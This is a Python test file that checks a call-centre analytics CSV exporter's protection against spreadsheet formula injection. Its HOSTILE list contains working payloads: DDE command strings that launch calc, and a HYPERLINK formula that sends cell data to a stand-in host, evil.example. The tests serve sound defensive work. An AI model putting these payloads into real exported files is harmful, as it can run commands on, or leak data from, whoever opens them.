"""The CSV export's formula guard against a hostile corpus (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from centralita.analytics.export_csv import _cell, _lines
from centralita.analytics.exports import ExportRow
from centralita.kernel.privacy import mask_phone

pytestmark = pytest.mark.unit

HOSTILE = [
    # The classics: formula, DDE, exfiltration by link.
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"clic")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # A sign, digits, then something else: arithmetic, a call, a pipe.
    "-2+3",
    "+1-1",
    "-1)*cmd|'",
    "+1(2)",
    "-(1)",
    "+56 9 1234-5678 =cmd",
    "+56 9 1234 5678",
    '+HYPERLINK("http://evil.example")',
    "-cmd|calc",
    "+",
    "-",
    "+-1",
    "--1",
    "-1-",
    "+1.2.3",
    "-1,5",
    "+1e5+cmd",
    # Whitespace and control characters in front.
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "  +1-1",
    # Full-width forms some spreadsheets read as their ASCII twins.
    "\uff1d1+1",
    "\uff0b1-1",
    "\uff0d1+1",
    "\uff20SUM(1)",
]

LEFT_EXACT = [
    "-12.5",
    "+56912345678",
    "56912345678",
    "-0.5",
    "+3",
    "-1e-05",
    "1E+2",
    "2025-03-15T12:00:00+00:00",
    "hola = chao",
    "María",
    "",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cells_get_a_leading_quote(value: str) -> None:
    assert _cell(value) == "'" + value


@pytest.mark.parametrize("value", LEFT_EXACT)
def test_numbers_and_plain_text_stay_exact(value: str) -> None:
    assert _cell(value) == value


@pytest.mark.parametrize("value", [-12.5, -1e-05, -3, 0.0])
def test_negative_numbers_stay_numbers(value: float) -> None:
    assert _cell(value) == str(value)


@pytest.mark.parametrize("phone", ["+56961234567", "+34612345678", "+14155550123"])
def test_masked_and_unmasked_phones_get_the_same_treatment(phone: str) -> None:
    # Both are left as they are: a masked phone is digits and stars, nothing a
    # spreadsheet can run; prefixing only the masked one made the column inconsistent.
    assert _cell(phone) == phone
    assert _cell(mask_phone(phone)) == mask_phone(phone)


@pytest.mark.parametrize("phone", ["+1-1+cmd|x", "+5 (9) 1234 5678"])
def test_a_masked_phone_that_is_not_digits_and_stars_is_neutralised(phone: str) -> None:
    masked = mask_phone(phone)
    assert _cell(masked) == "'" + masked


def test_a_whole_hostile_row_round_trips_through_the_csv_writer() -> None:
    row = ExportRow.model_validate(
        {
            "call_id": None,
            "attempt_id": None,
            "attempt_key": None,
            "campaign_id": None,
            "contact_id": None,
            "contact_external_id": "-1)*cmd|'",
            "contact_name": '=HYPERLINK("http://x","y")',
            "phone": "+56*****4567",
            "national_id": None,
            "email": "@evil",
            "direction": "outbound",
            "status": "completed",
            "outcome": None,
            "answered": False,
            "disconnection_reason": "-2+3",
            "started_at": "2025-03-15T12:00:00Z",
            "answered_at": None,
            "ended_at": None,
            "duration_s": None,
            "cost": 0.0,
            "promised_amount": -12.5,
            "promised_currency": None,
            "promised_date": None,
            "intent": None,
            "sentiment_trend": None,
            "avg_sentiment": -0.25,
            "turns": 0,
            "summary": "+56 9 1234-5678 =cmd",
        }
    )
    (cells,) = csv.DictReader(io.StringIO(_lines(None) + _lines([row])))
    assert cells["contact_external_id"] == "'-1)*cmd|'"
    assert cells["contact_name"] == '\'=HYPERLINK("http://x","y")'
    assert cells["phone"] == "+56*****4567"
    assert cells["email"] == "'@evil"
    assert cells["disconnection_reason"] == "'-2+3"
    assert cells["promised_amount"] == "-12.5"
    assert cells["avg_sentiment"] == "-0.25"
    assert cells["summary"] == "'+56 9 1234-5678 =cmd"
